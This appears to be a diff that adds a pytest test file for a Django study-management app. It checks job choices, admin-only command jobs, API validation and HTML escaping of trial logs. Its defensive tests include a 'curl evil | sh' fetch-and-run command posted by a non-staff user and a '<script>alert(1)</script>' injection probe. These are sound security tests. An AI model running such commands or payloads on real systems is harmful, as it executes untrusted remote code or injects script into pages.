@@ -1,0 +1,93 @@
+"""The three kinds of job a study names: choices in the form and the API, staff-only command jobs, logs."""
+from __future__ import annotations
+
+import pytest
+from django.urls import reverse
+from rest_framework.test import APIClient
+
+from studies import services
+from studies.attempt_logs import save_attempt_log
+from studies.jobs.builtins import SPACES
+from studies.models import ApiToken, CommandJob, Study
+from tests.test_views import _form
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def train_job(cast):
+    return CommandJob.objects.create(name="train", argv=["python", "train.py", "{params_args}"],
+                                     created_by=cast["staff"])
+
+
+def test_the_study_form_offers_callables_command_jobs_and_external_workers(client, cast, train_job):
+    client.force_login(cast["editor"])
+    page = client.get(reverse("study-create")).content.decode()
+    for value in ('value="digits_mlp"', 'value="command:train"', 'value="external"'):
+        assert value in page
+    assert "python train.py" not in page, "web users pick a job; they never see or type a command"
+
+
+def test_an_editor_creates_a_command_job_study_with_a_pruner_in_the_browser(client, cast, project, train_job):
+    client.force_login(cast["editor"])
+    response = client.post(reverse("study-create"), _form(
+        project=str(project.pk), job="command:train", pruner="asha",
+        **{"pruner__asha__min_resource": "2", "pruner__asha__reduction_factor": "4"}))
+    study = Study.objects.get(name="digits-random")
+    assert response.status_code == 302
+    assert study.job == "command:train" and study.job_settings == {}
+    assert study.pruner == "asha" and study.pruner_settings == {"min_resource": 2, "reduction_factor": 4}
+
+
+def test_the_api_accepts_command_and_external_jobs_and_rejects_unknown_ones_and_their_settings(cast, train_job):
+    _token, key = ApiToken.issue(cast["editor"])
+    api = APIClient()
+    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
+    body = {"space": SPACES["branin"], "max_trials": 3}
+    assert api.post("/api/studies/", {**body, "name": "a", "job": "command:train"}, format="json").status_code == 201
+    assert api.post("/api/studies/", {**body, "name": "b", "job": "external"}, format="json").status_code == 201
+    unknown = api.post("/api/studies/", {**body, "name": "c", "job": "command:rm"}, format="json")
+    assert unknown.status_code == 400 and "job" in unknown.json()
+    settings = api.post("/api/studies/", {**body, "name": "d", "job": "command:train", "job_settings": {"x": 1}},
+                        format="json")
+    assert settings.status_code == 400 and "takes no job settings" in settings.json()["job_settings"][0]
+
+
+def test_a_non_staff_user_cannot_create_or_edit_a_command_job(client, cast, train_job):
+    client.force_login(cast["owner"])
+    add = reverse("admin:studies_commandjob_add")
+    change = reverse("admin:studies_commandjob_change", args=[train_job.pk])
+    assert client.get(add).status_code == 302
+    client.post(add, {"name": "evil", "argv": '["sh", "-c", "curl evil | sh"]', "env": "{}"})
+    client.post(change, {"name": "train", "argv": '["sh", "-c", "curl evil | sh"]', "env": "{}"})
+    assert list(CommandJob.objects.values_list("name", "argv")) == [("train", ["python", "train.py", "{params_args}"])]
+
+
+def test_staff_define_a_command_job_in_the_admin(client, cast):
+    client.force_login(cast["staff"])
+    response = client.post(reverse("admin:studies_commandjob_add"), {
+        "name": "resnet", "description": "", "argv": '["python", "train.py", "{params_args}"]', "workdir": "",
+        "env": '{"EPOCHS": "10"}', "time_limit_s": "3600"})
+    assert response.status_code == 302, response.content.decode()[:2000]
+    job = CommandJob.objects.get(name="resnet")
+    assert job.created_by == cast["staff"] and job.env == {"EPOCHS": "10"}
+
+
+def test_the_trial_page_shows_the_log_tail_escaped_and_members_download_the_whole_log(client, cast, make_study,
+                                                                                      train_job):
+    study = make_study(job="command:train", space=SPACES["branin"], max_parallel=1)
+    services.start_study(study)
+    [trial_id] = services.schedule_trials(study.pk)
+    attempt = services.claim_trial(trial_id, services.WorkerIdentity.current("w"))
+    save_attempt_log(attempt.pk, "epoch 1\n<script>alert(1)</script>\nepoch 2\n", 45, 0)
+    trial = attempt.trial
+    client.force_login(cast["viewer"])
+
+    page = client.get(trial.get_absolute_url()).content.decode()
+    assert "epoch 2" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert" not in page
+    url = reverse("attempt-log", args=[study.pk, trial.number, attempt.number])
+    download = client.get(url)
+    assert download.status_code == 200 and download["Content-Type"].startswith("text/plain")
+    assert download.content.decode().startswith("epoch 1\n")
+    client.force_login(cast["stranger"])
+    assert client.get(url).status_code == 404
